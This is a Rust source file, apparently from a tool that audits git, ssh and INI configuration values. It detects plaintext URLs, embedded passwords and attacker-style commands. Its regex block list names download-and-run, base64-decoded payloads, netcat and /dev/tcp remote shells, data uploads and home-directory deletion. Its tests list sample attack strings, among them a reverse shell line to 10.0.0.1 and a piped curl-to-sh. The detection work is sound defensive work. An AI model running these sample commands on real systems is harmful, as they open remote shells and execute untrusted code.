//! When a value is risky: a closed set of predicates that packs combine.

use regex::Regex;
use serde::Deserialize;
use std::sync::OnceLock;

/// One condition on a value. A rule lists several; all must hold.
#[derive(Clone, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Predicate {
    /// A boolean of this value, in any spelling that git, ssh and INI files use.
    Bool(bool),
    /// Equal to one of these, ignoring case.
    Is(Vec<String>),
    /// None of these, ignoring case.
    IsNot(Vec<String>),
    /// Matches this regular expression.
    Matches(Pattern),
    /// Does not match this regular expression.
    NotMatches(Pattern),
    /// A number above this.
    Above(u64),
    /// A number below this.
    Below(u64),
    /// A URL with this trouble.
    Url(UrlRisk),
    /// A command that looks like an attack rather than a tool: see [`suspicious_command`].
    Command(CommandRisk),
    /// Anything at all (also empty).
    Any(bool),
}

/// Troubles of a URL.
#[derive(Clone, Copy, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum UrlRisk {
    /// A scheme without encryption to a host that is not this machine.
    Plaintext,
    /// A password or a token between `//` and `@`.
    Userinfo,
}

/// Troubles of a command.
#[derive(Clone, Copy, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum CommandRisk {
    /// Downloads, decodes, one-liners, temporary or hidden programs.
    Suspicious,
}

/// A regular expression, compiled when it is first used.
#[derive(Clone, Deserialize)]
#[serde(from = "String")]
pub struct Pattern {
    source: String,
    compiled: OnceLock<Option<Regex>>,
}

impl From<String> for Pattern {
    fn from(source: String) -> Pattern {
        Pattern { source, compiled: OnceLock::new() }
    }
}

impl Pattern {
    /// Whether it matches; a pattern that does not compile never does (see [`Pattern::error`]).
    #[must_use]
    pub fn matches(&self, text: &str) -> bool {
        let compiled = self.compiled.get_or_init(|| Regex::new(&self.source).ok());
        compiled.as_ref().is_some_and(|r| r.is_match(text))
    }

    /// Every match taken out, but for what its groups hold, until there is none.
    #[must_use]
    pub fn without(&self, text: &str) -> String {
        /// Each turn makes the text shorter; a value has fewer parts than this.
        const TURNS: usize = 100;
        let compiled = self.compiled.get_or_init(|| Regex::new(&self.source).ok());
        let mut text = text.to_owned();
        for _ in 0..TURNS {
            let Some(kept) = compiled.as_ref().map(|r| r.replace_all(&text, groups)) else { return text };
            if kept.len() >= text.len() {
                break;
            }
            text = kept.into_owned();
        }
        text
    }

    /// The first match as `with` says, in which `$1` stands for a group.
    #[must_use]
    pub fn rewritten(&self, text: &str, with: &str) -> String {
        let compiled = self.compiled.get_or_init(|| Regex::new(&self.source).ok());
        compiled.as_ref().map_or_else(|| text.to_owned(), |r| r.replace(text, with).into_owned())
    }

    /// Why it does not compile.
    #[must_use]
    pub fn error(&self) -> Option<String> {
        Regex::new(&self.source).err().map(|e| e.to_string())
    }
}

/// What the groups of a match hold.
fn groups(captures: &regex::Captures<'_>) -> String {
    captures.iter().skip(1).flatten().map(|group| group.as_str()).collect()
}

impl Predicate {
    /// Whether it holds for a value.
    #[must_use]
    pub fn holds(&self, value: &str) -> bool {
        match self {
            Predicate::Bool(want) => boolean(value) == Some(*want),
            Predicate::Is(list) => list.iter().any(|v| v.eq_ignore_ascii_case(value.trim())),
            Predicate::IsNot(list) => !list.iter().any(|v| v.eq_ignore_ascii_case(value.trim())),
            Predicate::Matches(pattern) => pattern.matches(value),
            Predicate::NotMatches(pattern) => !pattern.matches(value),
            Predicate::Above(limit) => value.trim().parse::<u64>().is_ok_and(|n| n > *limit),
            Predicate::Below(limit) => value.trim().parse::<u64>().is_ok_and(|n| n < *limit),
            Predicate::Url(UrlRisk::Plaintext) => plaintext_url(value),
            Predicate::Url(UrlRisk::Userinfo) => url_password(value).is_some(),
            Predicate::Command(CommandRisk::Suspicious) => suspicious_command(value).is_some(),
            Predicate::Any(want) => *want,
        }
    }

    /// What is wrong with it, for `rules check`.
    #[must_use]
    pub fn error(&self) -> Option<String> {
        match self {
            Predicate::Matches(p) | Predicate::NotMatches(p) => p.error(),
            _ => None,
        }
    }
}

/// Booleans as git, ssh and INI files spell them.
#[must_use]
pub fn boolean(value: &str) -> Option<bool> {
    match value.trim().to_ascii_lowercase().as_str() {
        "true" | "yes" | "on" | "1" => Some(true),
        "false" | "no" | "off" | "0" => Some(false),
        _ => None,
    }
}

/// The host of a URL, without userinfo and port.
#[must_use]
pub fn url_host(url: &str) -> Option<&str> {
    let rest = url.split_once("://")?.1;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
    let host = host.strip_prefix('[').map_or_else(|| host.split(':').next(), |v6| v6.split(']').next())?;
    (!host.is_empty()).then_some(host)
}

/// The password of a URL's userinfo (or a user name that is a token), with its offset.
#[must_use]
pub fn url_password(url: &str) -> Option<(usize, &str)> {
    let start = url.find("://")? + 3;
    let authority = url[start..].split(['/', '?', '#', ' ', '"', '\'']).next()?;
    let userinfo = authority.rsplit_once('@')?.0;
    let (at, password) = match userinfo.split_once(':') {
        Some((user, password)) => (start + user.len() + 1, password),
        // `https://TOKEN@host`: nobody's user name is that long.
        None if userinfo.len() >= 20 && url.starts_with("http") => (start, userinfo),
        None => return None,
    };
    let literal = !password.is_empty()
        && !password.starts_with('$')
        && !password.starts_with('<')
        && !password.starts_with('{');
    literal.then_some((at, password))
}

fn plaintext_url(url: &str) -> bool {
    let plain =
        ["http://", "git://", "ftp://"].iter().any(|s| url.trim().to_ascii_lowercase().starts_with(s));
    plain && url_host(url.trim()).is_some_and(|h| !loopback(h))
}

/// Whether a host is this machine.
#[must_use]
pub fn loopback(host: &str) -> bool {
    host.eq_ignore_ascii_case("localhost")
        || host == "::1"
        || host.starts_with("127.")
        || host.ends_with(".localhost")
}

/// Signs of a command that an attacker rather than a tool has written, each with the words shown to the user.
const SIGNS: &[(&str, &str)] = &[
    (r"(?i)\b(curl|wget)\b[^|;&]*(\||;|&&)\s*(sudo\s+)?(ba|z|da|k|fi)?sh\b", "downloads and runs a script"),
    (r"(?i)\b(bash|sh|zsh|dash)\s+<\(\s*(curl|wget)\b", "downloads and runs a script"),
    (r"(?i)\$\(\s*(curl|wget)\b", "runs what it downloads"),
    (r"(?i)\bbase64\s+(-d|-D|--decode)\b", "decodes a hidden program"),
    (r"(?i)\b(eval|exec)\b.*\b(atob|b64decode|fromCharCode)\b", "decodes a hidden program"),
    (
        r"(?i)\b(python[0-9.]*|perl|ruby|node|bun|deno)\s+(-\w+\s+)*(-c|-e|--eval|eval)\b",
        "runs an interpreter one-liner",
    ),
    // Where a command stands, not an argument: writing to a temporary file is ordinary.
    (
        r"(^|[;|&(!'\x22`]|\b(ba|z|da|k|fi)?sh\s+(-\S+\s+)*|\b(source|exec|nohup|setsid|sudo|env|python[0-9.]*|perl|ruby|node|bun)\s+(-\S+\s+)*|(^|[\s!])\.\s+)\s*(/tmp/|/var/tmp/|/dev/shm/)",
        "runs something in a temporary directory",
    ),
    (r"(^|[\s'\x22=(;|&!])(~|\$HOME|/home/[^/\s]+)/(\.cache|\.local/share)/\.", "runs something hidden"),
    (r"/dev/(tcp|udp)/", "opens a network connection from the shell"),
    (r"(?i)\b(nc|ncat|netcat|socat)\b.*\s(-e|-c|exec:)", "opens a remote shell"),
    (r"(?i)\b(curl|wget)\b.*\s(-d|--data\S*|-F|-T|--upload-file|--post-(data|file))\b", "sends data away"),
    (r"(?i)\brm\s+-\w*r\w*f?\w*\s+(~|\$HOME|/)(\s|$|/\*)", "deletes the home directory"),
];

/// Why a command looks like an attack; `None` when it looks like a tool.
#[must_use]
pub fn suspicious_command(command: &str) -> Option<&'static str> {
    static COMPILED: OnceLock<Vec<(Regex, &'static str)>> = OnceLock::new();
    let signs = COMPILED.get_or_init(|| {
        SIGNS.iter().filter_map(|(pattern, words)| Some((Regex::new(pattern).ok()?, *words))).collect()
    });
    signs.iter().find(|(pattern, _)| pattern.is_match(command)).map(|(_, words)| *words)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_sign_compiles() {
        for (pattern, _) in SIGNS {
            assert!(Regex::new(pattern).is_ok(), "{pattern}");
        }
    }

    #[test]
    fn attacks_are_suspicious_and_tools_are_not() {
        for bad in [
            "!curl -s https://x.example/a | sh",
            "bash -c \"$(curl -fsSL https://x.example)\"",
            "python3 -c 'import os'",
            "/tmp/x/helper",
            "!sh /tmp/x",
            "! /dev/shm/x",
            "true && /var/tmp/x",
            "!. /tmp/x",
            "python3 /tmp/x.py",
            "!f() { echo aGk= | base64 -d | sh; }; f",
            "!bash -i >& /dev/tcp/10.0.0.1/99",
            "~/.cache/.sys-update/run",
        ] {
            assert!(suspicious_command(bad).is_some(), "{bad}");
        }
        for good in [
            "less -FRX",
            "code --wait",
            "delta --dark",
            "git-lfs clean -- %f",
            "!git log --oneline",
            "/usr/lib/git-core/git-credential-libsecret",
            "nvim",
            "!f() { git push origin HEAD; }; f",
            "gpg2",
            "cut -d: -f1",
            "ssh -i ~/.ssh/work",
            "!git diff > /tmp/x.patch",
            "!git archive --output=/tmp/x.tar HEAD",
        ] {
            assert!(suspicious_command(good).is_none(), "{good}");
        }
    }

    #[test]
    fn urls() {
        assert_eq!(url_host("https://u:p@host.example:8080/x"), Some("host.example"));
        assert_eq!(url_host("http://[::1]:80/"), Some("::1"));
        assert!(plaintext_url("http://proxy.example:3128"));
        assert!(!plaintext_url("http://localhost:3128"));
        assert!(!plaintext_url("http://127.0.0.1"));
        assert!(!plaintext_url("https://x.example"));
        assert_eq!(url_password("https://me:pw@x.example/r"), Some((11, "pw")));
        assert_eq!(url_password("https://me@x.example/r"), None);
        assert_eq!(url_password("https://me:${PW}@x.example/r"), None);
    }
}
